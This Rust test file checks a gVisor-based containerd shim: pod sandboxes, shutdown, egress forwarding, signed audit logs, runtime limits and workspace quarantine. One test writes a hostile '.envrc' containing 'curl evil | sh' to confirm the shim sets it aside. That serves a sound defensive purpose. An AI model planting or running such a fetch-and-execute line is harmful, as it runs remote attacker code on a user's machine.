//! Pods (one sandbox, later containers joining it) and the shim's own end.

use super::*;
use gvisor_hardened_core::fake::Step;

const CRI_TYPE: &str = "io.kubernetes.cri.container-type";
const CRI_SANDBOX: &str = "io.kubernetes.cri.sandbox-id";

#[tokio::test]
async fn pod_containers_join_the_sandbox_and_leave_it_while_the_sandbox_stays() {
    let bed = Bed::new();
    bed.shim
        .create(bed.request("pod", &[(CRI_TYPE, "sandbox"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.start("pod", "").await.unwrap();
    let sandbox_pid = bed.shim.state("pod", "").await.unwrap().pid;
    let app = bed.request("app", &[(CRI_TYPE, "container"), (CRI_SANDBOX, "pod")]);
    let created = bed.shim.create(app).await.unwrap();
    // runsc reports the pod sandbox's pid for the container that joined it.
    assert_eq!(created.pid, sandbox_pid);
    bed.shim.start("app", "").await.unwrap();
    bed.fake.exit("app", exited(4));
    assert_eq!(bed.exit_status("app").await, 4);
    bed.shim.delete("app", "").await.unwrap();
    // The sandbox still runs, and takes another container.
    assert_eq!(
        bed.shim.state("pod", "").await.unwrap().status,
        containerd_shim_protos::types::task::Status::RUNNING.into()
    );
    bed.shim
        .create(bed.request("app2", &[(CRI_TYPE, "container"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.delete("app2", "").await.unwrap();
    bed.shim.kill("pod", "", SIGKILL, true).await.unwrap();
    bed.exit_status("pod").await;
    bed.shim.delete("pod", "").await.unwrap();
    assert_eq!(
        bed.events.matching("exit"),
        ["exit app app 4", "exit app2 app2 137", "exit pod pod 137"]
    );
    bed.assert_clean();
}

#[tokio::test]
async fn a_pod_container_is_reported_killed_when_its_sandbox_dies() {
    let bed = Bed::new();
    bed.shim
        .create(bed.request("pod", &[(CRI_TYPE, "sandbox"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.start("pod", "").await.unwrap();
    bed.shim
        .create(bed.request("app", &[(CRI_TYPE, "container"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.start("app", "").await.unwrap();
    bed.fake.exit("pod", ExitStatus::killed());
    assert_eq!(bed.exit_status("app").await, 137);
    assert_eq!(bed.exit_status("pod").await, 137);
    bed.shim.delete("app", "").await.unwrap();
    bed.shim.delete("pod", "").await.unwrap();
    bed.assert_clean();
}

#[tokio::test]
async fn a_container_of_a_pod_this_shim_does_not_serve_is_refused() {
    let bed = Bed::new();
    let err = bed
        .shim
        .create(bed.request(
            "app",
            &[(CRI_TYPE, "container"), (CRI_SANDBOX, "elsewhere")],
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::INVALID_ARGUMENT);
    assert!(err.to_string().contains("elsewhere"), "{err}");
    bed.assert_clean();
}

#[tokio::test]
async fn shutdown_exits_only_when_nothing_is_left() {
    let bed = Bed::new();
    bed.create("c1").await;
    bed.create("c2").await;
    bed.shim.delete("c1", "").await.unwrap();
    bed.shim.shutdown(false).await;
    assert!(!bed.shim.exit.is_cancelled());
    bed.shim.delete("c2", "").await.unwrap();
    bed.shim.shutdown(false).await;
    assert!(bed.shim.exit.is_cancelled());
    bed.assert_clean();
}

#[tokio::test]
async fn shutdown_now_exits_whatever_is_left() {
    let bed = Bed::new();
    bed.create("c1").await;
    bed.shim.shutdown(true).await;
    assert!(bed.shim.exit.is_cancelled());
    bed.shim.delete("c1", "").await.unwrap();
}

#[tokio::test]
async fn sigterm_to_the_shim_tears_down_every_sandbox_members_first() {
    let bed = Bed::new();
    bed.shim
        .create(bed.request("pod", &[(CRI_TYPE, "sandbox"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.start("pod", "").await.unwrap();
    bed.shim
        .create(bed.request("app", &[(CRI_TYPE, "container"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.start("app", "").await.unwrap();
    bed.shim.terminate_all().await;
    assert_eq!(
        bed.fake.calls_of("kill"),
        [
            format!("kill app {SIGKILL} all"),
            format!("kill pod {SIGKILL} all")
        ]
    );
    assert_eq!(
        bed.audit_record("pod", "delete")["error"],
        "shim terminated"
    );
    bed.assert_clean();
}

/// Egress on; any root-owned executable stands in for the forwarder binary (the fake runtime
/// never runs it, create only checks it is installed).
const EGRESS_POLICY: &str =
    "[network.egress]\nallow = [\"api.example.test\"]\nforwarder = \"/bin/sh\"\n";

#[tokio::test]
async fn egress_without_the_forwarder_installed_fails_create_naming_it_and_leaves_nothing() {
    let bed = Bed::with_policy(
        "[network.egress]\nallow = [\"api.example.test\"]\nforwarder = \"/nonexistent/gvh-forwarder\"\n",
    );
    let (code, msg) = code(bed.shim.create(bed.request("c1", &[])).await.unwrap_err());
    assert_eq!(code, Code::FAILED_PRECONDITION);
    assert!(
        msg.starts_with("egress needs the forwarder binary at /nonexistent/gvh-forwarder"),
        "{msg}"
    );
    assert!(msg.contains("hack/build-forwarder.sh"), "{msg}");
    assert!(bed.fake.calls_of("create").is_empty());
    assert_eq!(bed.audit_events("c1"), ["create-failed"]);
    bed.assert_clean();
}

#[tokio::test]
async fn egress_runs_one_forwarder_per_pod_in_its_sandbox_from_start_to_exit() {
    let bed = Bed::with_policy(EGRESS_POLICY);
    bed.shim
        .create(bed.request("pod", &[(CRI_TYPE, "sandbox"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.start("pod", "").await.unwrap();
    // Start answered after the forwarder said it listens.
    assert_eq!(
        bed.fake.calls_of("forwarder"),
        ["forwarder pod 127.0.0.1:3128"]
    );
    bed.shim
        .create(bed.request("app", &[(CRI_TYPE, "container"), (CRI_SANDBOX, "pod")]))
        .await
        .unwrap();
    bed.shim.start("app", "").await.unwrap();
    // The pod's later container shares it, and finds it through the proxy variables.
    assert_eq!(bed.fake.calls_of("forwarder").len(), 1);
    let spec: Value =
        serde_json::from_slice(&std::fs::read(bed.bundle("app").join("config.json")).unwrap())
            .unwrap();
    let env: Vec<&str> = spec["process"]["env"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        env.contains(&"HTTPS_PROXY=http://127.0.0.1:3128"),
        "{env:?}"
    );
    bed.fake.exit("app", exited(0));
    bed.exit_status("app").await;
    bed.shim.delete("app", "").await.unwrap();
    // The sandbox's end stops the forwarder, before its exit is recorded.
    bed.fake.exit("pod", ExitStatus::killed());
    bed.exit_status("pod").await;
    let events = bed.audit_events("pod");
    let exit_at = events.iter().position(|e| e == "exit").unwrap();
    let ready_at = events.iter().position(|e| e == "egress-forwarder-ready");
    assert!(ready_at.is_some_and(|r| r < exit_at), "{events:?}");
    bed.shim.delete("pod", "").await.unwrap();
    bed.assert_clean();
}

#[tokio::test]
async fn egress_that_cannot_be_confined_stays_closed_and_the_trail_says_why() {
    let bed = Bed::with_policy(EGRESS_POLICY);
    bed.fake.fail_next(Step::Confine);
    bed.running("c1").await;
    // No proxy outside its confinement: no forwarder, so nothing listens inside.
    assert!(bed.fake.calls_of("forwarder").is_empty());
    let died = bed.audit_record("c1", "egress-forwarder-died");
    let reason = died["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("egress not set up: injected failure: the sandbox's cgroups"),
        "{died}"
    );
    bed.kill_delete_and_check("c1").await;
}

#[tokio::test]
async fn without_an_allowlist_no_forwarder_is_started() {
    let bed = Bed::new();
    bed.running("c1").await;
    assert!(bed.fake.calls_of("forwarder").is_empty());
    bed.kill_delete_and_check("c1").await;
}

#[tokio::test]
async fn a_deleted_created_container_with_egress_leaves_no_forwarder() {
    let bed = Bed::with_policy(EGRESS_POLICY);
    bed.running("c1").await;
    bed.kill_delete_and_check("c1").await;
}

#[tokio::test]
async fn egress_records_are_part_of_the_sandboxs_signed_trail() {
    use policy_injector::audit_chain::{sign, verify};
    use std::os::unix::fs::PermissionsExt;
    let keys = tempfile::tempdir().unwrap();
    let (private, public) = sign::key_pair_pem([3; 32]);
    let key = keys.path().join("audit.key");
    std::fs::write(&key, private).unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let bed = Bed::with_policy(&format!(
        "{EGRESS_POLICY}[audit]\nsigning_key = \"{}\"\n",
        key.display()
    ));
    bed.running("c1").await;
    bed.fake.exit("c1", exited(0));
    bed.exit_status("c1").await;
    bed.shim.delete("c1", "").await.unwrap();
    let events = bed.audit_events("c1");
    assert!(
        events.iter().any(|e| e.starts_with("egress-")),
        "{events:?}"
    );
    let log = std::fs::read(bed.audit_path()).unwrap();
    let public = sign::verifying_key_from_pem(&public).unwrap();
    verify::verify_all(&[("audit.jsonl", &log)], Some(public), false)
        .unwrap_or_else(|b| panic!("{b}"));
    bed.assert_clean();
}

/// A pod stopped by the wall-clock limit: its sandbox started first, so the sandbox's timer
/// fires first and the sandbox's end takes the app container with it, before the app's own
/// timer. The app's exit is still the limit's doing (audit `timeout`), and its kubelet
/// termination-message file (the bind mount the kubelet makes for `terminationMessagePath`)
/// says so before the exit is published; the sandbox container has no such file.
#[tokio::test(start_paused = true)]
async fn a_pod_stopped_at_its_limit_says_why_in_its_containers_termination_message() {
    let bed = Bed::with_policy("[lifetime]\nmax_runtime = \"60s\"\ngrace_period = \"5s\"");
    // The app container starts 10 s after its sandbox.
    let (app, message) = pod_and_app_with_termination_message(&bed, Vec::new()).await;
    tokio::time::advance(std::time::Duration::from_secs(10)).await;
    bed.shim.create(app).await.unwrap();
    bed.shim.start("app", "").await.unwrap();
    // The sandbox's limit (60 s after its start) fires; the app's (at 70 s) has not.
    while bed.fake.calls_of("kill").is_empty() {
        tokio::time::advance(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(
        bed.fake.calls_of("kill"),
        [format!("kill pod {SIGTERM} all")]
    );
    bed.fake.exit("pod", ExitStatus::killed());
    assert_eq!(bed.exit_status("app").await, 137);
    assert_eq!(bed.audit_record("app", "exit")["exit_cause"], "timeout");
    assert_eq!(
        std::fs::read_to_string(&message).unwrap(),
        "gvisor-hardened: stopped at the policy's maximum runtime (1m)\n"
    );
    bed.exit_status("pod").await;
    assert_eq!(bed.audit_record("pod", "exit")["exit_cause"], "timeout");
    bed.shim.delete("app", "").await.unwrap();
    bed.shim.delete("pod", "").await.unwrap();
    assert_eq!(
        std::fs::read_to_string(&message).unwrap().lines().count(),
        1,
        "only the app container wrote"
    );
    bed.assert_clean();
}

/// What the workspace's exit did in a pod's volume is said in the container's
/// termination-message file too (where `kubectl describe` shows it), beside its exit record:
/// here a protected `.envrc` the workload created, set aside.
#[tokio::test]
async fn what_the_workspace_exit_set_aside_is_said_in_the_termination_message() {
    let vol = tempfile::tempdir().unwrap();
    let bed = Bed::with_policy(&format!(
        "[mounts]\nwritable_sources = [\"{}/**\"]\nprotect = [\".envrc\"]\n",
        vol.path().display()
    ));
    let volume = json!({
        "destination": "/work", "type": "bind", "source": vol.path(), "options": ["rbind", "rw"],
    });
    let (app, message) = pod_and_app_with_termination_message(&bed, vec![volume]).await;
    bed.shim.create(app).await.unwrap();
    bed.shim.start("app", "").await.unwrap();
    // What the workload does.
    std::fs::write(vol.path().join(".envrc"), "curl evil | sh\n").unwrap();
    bed.fake.exit("app", exited(0));
    assert_eq!(bed.exit_status("app").await, 0);
    assert!(!vol.path().join(".envrc").exists());
    let exit = bed.audit_record("app", "exit");
    assert_eq!(
        exit["workspace"]["quarantined"].as_array().unwrap().len(),
        1,
        "{exit}"
    );
    assert_eq!(
        std::fs::read_to_string(&message).unwrap(),
        "gvisor-hardened: workspace: 1 set aside; the exit record names each path\n"
    );
    bed.shim.delete("app", "").await.unwrap();
    bed.fake.exit("pod", exited(0));
    bed.exit_status("pod").await;
    bed.shim.delete("pod", "").await.unwrap();
    bed.assert_clean();
}

/// A pod's sandbox `pod` created and started, and the request for its app container `app`,
/// whose spec binds the kubelet's termination-message file (returned) and `mounts`.
async fn pod_and_app_with_termination_message(
    bed: &Bed,
    mounts: Vec<Value>,
) -> (CreateTaskRequest, PathBuf) {
    let pod_dir = bed.bundle("kubelet").join("pods/uid-1/containers/app");
    std::fs::create_dir_all(&pod_dir).unwrap();
    let message = pod_dir.join("0a1b2c3d");
    std::fs::write(&message, "").unwrap();
    let pod = [
        (CRI_TYPE, "sandbox"),
        (CRI_SANDBOX, "pod"),
        ("io.kubernetes.cri.sandbox-uid", "uid-1"),
    ];
    bed.shim.create(bed.request("pod", &pod)).await.unwrap();
    bed.shim.start("pod", "").await.unwrap();
    let app = bed.request(
        "app",
        &[
            (CRI_TYPE, "container"),
            (CRI_SANDBOX, "pod"),
            ("io.kubernetes.cri.sandbox-uid", "uid-1"),
            ("io.kubernetes.cri.container-name", "app"),
        ],
    );
    let config = bed.bundle("app").join("config.json");
    let mut spec: Value = serde_json::from_slice(&std::fs::read(&config).unwrap()).unwrap();
    let list = spec["mounts"].as_array_mut().unwrap();
    list.push(json!({
        "destination": "/dev/termination-log",
        "type": "bind",
        "source": message,
        "options": ["rbind", "rw"],
    }));
    list.extend(mounts);
    std::fs::write(&config, spec.to_string()).unwrap();
    (app, message)
}

/// A pod's later container whose init exits on its own: the rest of the container goes with it
/// (in a shared PID namespace the init's children outlive it and hold its output open, and
/// containerd's delete waits for that), once; a container killed whole is not killed again.
#[tokio::test]
async fn what_a_members_init_leaves_is_killed_once_when_it_exits() {
    let bed = Bed::new();
    let pod = [(CRI_TYPE, "sandbox"), (CRI_SANDBOX, "pod")];
    bed.shim.create(bed.request("pod", &pod)).await.unwrap();
    bed.shim.start("pod", "").await.unwrap();
    for app in ["app", "other"] {
        let member = [(CRI_TYPE, "container"), (CRI_SANDBOX, "pod")];
        bed.shim.create(bed.request(app, &member)).await.unwrap();
        bed.shim.start(app, "").await.unwrap();
    }
    bed.fake.exit("app", exited(0));
    assert_eq!(bed.exit_status("app").await, 0);
    assert_eq!(
        bed.fake.calls_of("kill"),
        [format!("kill app {SIGKILL} all")]
    );
    // Killed whole by the kubelet's StopContainer: its exit adds no kill.
    bed.shim.kill("other", "", SIGKILL, true).await.unwrap();
    bed.fake.exit("other", ExitStatus::killed());
    assert_eq!(bed.exit_status("other").await, 137);
    assert_eq!(
        bed.fake.calls_of("kill").len(),
        2,
        "{:?}",
        bed.fake.calls_of("kill")
    );
    for id in ["app", "other"] {
        bed.shim.delete(id, "").await.unwrap();
    }
    bed.fake.exit("pod", exited(0));
    bed.exit_status("pod").await;
    bed.shim.delete("pod", "").await.unwrap();
    bed.assert_clean();
}
